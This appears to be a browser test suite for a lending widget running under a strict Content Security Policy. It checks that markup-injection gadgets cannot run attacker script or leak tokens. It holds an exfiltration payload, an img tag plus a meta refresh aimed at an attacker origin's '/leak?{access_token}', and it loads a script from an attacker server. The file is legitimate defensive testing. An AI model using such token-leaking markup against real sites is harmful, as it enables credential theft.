// <lending-widget> on a page with the strictest policy, and attacks with markup alone.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { ensureBuilt } from '../support/dist.mjs';
import { cli } from '../support/doctor.mjs';
import { launch, recordProblems } from './stage.mjs';
import { ATTACK, ELEMENT, GADGETS, inside } from './gadgets.mjs';
import { handOff, script, send, startPartner, startVendor } from './vendor/servers.mjs';

const NONCE = 'cmFuZG9tIGVub3VnaA';
const EMBED_CALL = `VendorFunding.init({ token: '{access_token}', container: document.getElementById('{container_id}') });`;

const nonceOnly = (vendor) =>
  [
    "default-src 'none'",
    `script-src 'nonce-${NONCE}' 'strict-dynamic'`,
    "style-src 'self'",
    `connect-src 'self' ${vendor}`,
    "img-src 'self' data:",
    "frame-src 'self'",
    "base-uri 'none'",
    "form-action 'self'",
  ].join('; ');
const [STRICT, NO_TRUSTED_TYPES, NONE] = ['the strict policy', 'the policy without Trusted Types', 'no policy'];
const POLICIES = {
  // The policy that the doctor prints. It runs before the tests.
  [STRICT]: undefined,
  [NO_TRUSTED_TYPES]: nonceOnly,
  [NONE]: () => undefined,
};

/** Returns the policy that `lending-elements doctor --csp` prints for a vendor's widget. */
async function printedPolicy(vendor) {
  const widget = { scriptUrl: `${vendor}/widget.js`, handOff: handOff() };
  const { status, stdout } = await cli(['doctor', '--csp'], {
    LENDING_ENVIRONMENT: 'sandbox',
    LENDING_WIDGET: JSON.stringify(widget),
  });
  assert.equal(status, 0);
  return stdout.trim().replace('{nonce}', NONCE);
}

describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
  let browser;
  let partner;
  let vendor;
  let attacker;

  before(async () => {
    await ensureBuilt();
    [partner, vendor, attacker] = await Promise.all([startPartner(), startVendor(), startVendor()]);
    const printed = await printedPolicy(vendor.origin);
    POLICIES[STRICT] = () => printed;
    // It fetches the offers from its own backend, as a widget does.
    const source = `globalThis.VendorFunding = { async init({ token, container }) {
      const answer = await fetch('${vendor.origin}/offers', { headers: { authorization: token } });
      const offers = document.createElement('p');
      offers.className = 'offers';
      offers.textContent = await answer.text() + ' for ' + token;
      container.append(offers);
    } };`;
    const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization' };
    vendor.on('/widget.js', (response) => send(response, source));
    vendor.on('/offers', (response) => send(response, 'Three offers', { 'content-type': 'text/plain', ...cors }));
    vendor.on('/plain.js', (response) => send(response, script()));
    attacker.on('/attack.js', (response) => send(response, ATTACK));
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    for (const server of [partner, vendor, attacker]) server?.close();
  });

  const settings = () => ({ scriptUrl: `${vendor.origin}/widget.js`, handOff: handOff() });
  const embed = () => `<div><script src="${vendor.origin}/widget.js"></script><script>${EMBED_CALL}</script></div>`;

  /** Returns the texts, events, policy violations and console messages of the widgets on a page and in its frames. */
  async function open(body, widgets, under = STRICT) {
    const page = await browser.newPage();
    const problems = recordProblems(page);
    await page.evaluateOnNewDocument(() => {
      globalThis.seen = [];
      addEventListener('securitypolicyviolation', (event) => globalThis.seen.push(event.effectiveDirective));
    });
    try {
      const strict = { csp: POLICIES[under](vendor.origin), nonce: NONCE };
      await page.goto(partner.show({ body, widgets, ...strict }), { waitUntil: 'networkidle0' });
      const shown = await page.evaluate(async (count) => {
        const { notes } = globalThis.partner;
        const settled = () => notes.events.filter(({ type }) => /ready|error/.test(type));
        const end = performance.now() + 20_000;
        while (settled().length < count && performance.now() < end) {
          await new Promise((resolve) => setTimeout(resolve, 20));
        }
        return {
          told: settled().map(({ code = 'ready' }) => code),
          texts: [...document.querySelectorAll('.offers')].map(({ textContent }) => textContent),
          violations: notes.violations,
          attacked: Boolean(globalThis.attacked),
        };
      }, widgets.length);
      const inFrames = await Promise.all(
        page.frames().map(async (frame) => {
          if (!frame.url().startsWith(`${partner.origin}/frames/`)) return [];
          const texts = () => [...document.querySelectorAll('.offers')].map(({ textContent }) => textContent);
          return [{ texts: await frame.evaluate(texts), violations: await frame.evaluate(() => globalThis.seen) }];
        }),
      );
      return { ...shown, problems, inFrames: inFrames.flat() };
    } finally {
      await page.close();
    }
  }

  it('shows the widget from a script and a hand-off, from embed code and from the backend’s settings, with 0 violations', async () => {
    const widgets = [
      { token: 'token-1', widget: settings() },
      { token: 'token-2', widget: { embedCode: embed() } },
      { token: 'token-3', widget: settings(), isFromBackend: true },
    ];
    const { told, texts, violations, problems } = await open(ELEMENT.repeat(3), widgets);
    assert.deepEqual([violations, problems], [[], []]);
    assert.deepEqual(told, ['ready', 'ready', 'ready']);
    assert.deepEqual(
      texts,
      [1, 2, 3].map((at) => `Three offers for token-${at}`),
    );
  });

  /** The same settings for a frame. The backend names the origins that the widget needs in it. */
  const framed = (widget) => {
    const whole = { ...widget, origins: [vendor.origin] };
    return { ...whole, isolation: 'frame', frameUrl: partner.frame(whole) };
  };

  it('shows the widget in frames in the same three ways, with 0 violations in the page and in the frames', async () => {
    const widgets = [
      { token: 'token-1', widget: framed(settings()) },
      { token: 'token-2', widget: framed({ embedCode: embed() }) },
      { token: 'token-3', widget: framed(settings()), isFromBackend: true },
    ];
    const { told, texts, violations, problems, inFrames } = await open(ELEMENT.repeat(3), widgets);
    assert.deepEqual([violations, problems, texts], [[], [], []]);
    assert.deepEqual(told, ['ready', 'ready', 'ready']);
    assert.deepEqual(
      inFrames.sort((one, other) => one.texts[0].localeCompare(other.texts[0])),
      [1, 2, 3].map((at) => ({ texts: [`Three offers for token-${at}`], violations: [] })),
    );
  });

  it('control: a violation in a frame is detected there, and not in the page', async () => {
    const embedCode = `${embed()}<script>new Image().src = 'http:' + '//another.example/x.png';</script>`;
    const { violations, inFrames } = await open(ELEMENT, [{ widget: framed({ embedCode }) }]);
    assert.deepEqual([violations, inFrames[0].violations], [[], ['img-src']]);
  });

  const ownTemplate = () =>
    inside(`<script src="${vendor.origin}/plain.js"></script><script nonce="${NONCE}">${EMBED_CALL}</script>`);
  for (const under of [NO_TRUSTED_TYPES, STRICT]) {
    it(`shows the widget from a template with the page’s nonce, under ${under}`, async () => {
      const { told, texts, violations } = await open(ownTemplate(), [{ widget: settings() }], under);
      assert.deepEqual([told, texts, violations], [['ready'], ['Offers for token-1'], []]);
    });
  }

  it('control: a violation is detected', async () => {
    const embedCode = `${embed()}<img src="${attacker.origin}/x.png">`;
    const { violations } = await open(ELEMENT, [{ widget: { embedCode } }]);
    assert.deepEqual(
      violations.map(({ effectiveDirective }) => effectiveDirective),
      ['img-src'],
    );
  });

  const addresses = () => ({
    vendor: vendor.origin,
    attacker: attacker.origin,
    attack: `${attacker.origin}/attack.js`,
  });
  // None of them may send a request to the attacker, so they can run at the same time.
  describe('attacks with markup', { concurrency: 4 }, () => {
    for (const [name, gadget] of Object.entries(GADGETS)) {
      for (const under of [STRICT, NO_TRUSTED_TYPES, ...(gadget.anywhere ? [NONE] : [])]) {
        it(`run nothing of ${name}, under ${under}`, async () => {
          // Some gadgets end only after the limit.
          const timeoutMs = gadget.told === 'ready' ? 15_000 : 3000;
          const own = { widget: gadget.widget ?? settings(), isFromBackend: true, timeoutMs };
          const widgets = gadget.hasNoSettings ? [null] : [own];
          const before = attacker.asked('/');
          const { attacked, told, texts } = await open(gadget.markup(addresses()), widgets, under);
          assert.equal(attacked, false);
          assert.equal(attacker.asked('/'), before);
          assert.equal(told.length, 1);
          if (gadget.told) assert.deepEqual(told, [gadget.told]);
          if (gadget.told === 'ready') assert.deepEqual(texts, ['Three offers for token-1']);
        });
      }
    }
  });

  it('control: an attack runs if the policy allows its origin', async () => {
    const widget = { ...settings(), origins: [attacker.origin] };
    const before = attacker.asked('/attack.js');
    const { attacked } = await open(inside(`<script src="${addresses().attack}"></script>`), [
      { widget, isFromBackend: true },
    ]);
    assert.equal(attacked, true);
    assert.equal(attacker.asked('/attack.js'), before + 1);
  });

  it('sends no token to an origin that markup names', async () => {
    const leak = (address) => `<img src="${address}"><meta http-equiv="refresh" content="0;url=${address}">`;
    const sent = [];
    for (const under of [STRICT, NONE]) {
      const before = attacker.asked('/leak?token');
      const markup = inside(leak(`${attacker.origin}/leak?{access_token}`));
      // The attack can navigate the page.
      await open(markup, [{ widget: settings(), isFromBackend: true }], under).catch(() => undefined);
      sent.push([under, attacker.asked('/leak?token') - before]);
    }
    assert.deepEqual(Object.fromEntries(sent), { [STRICT]: 0, [NONE]: 0 });
  });
});
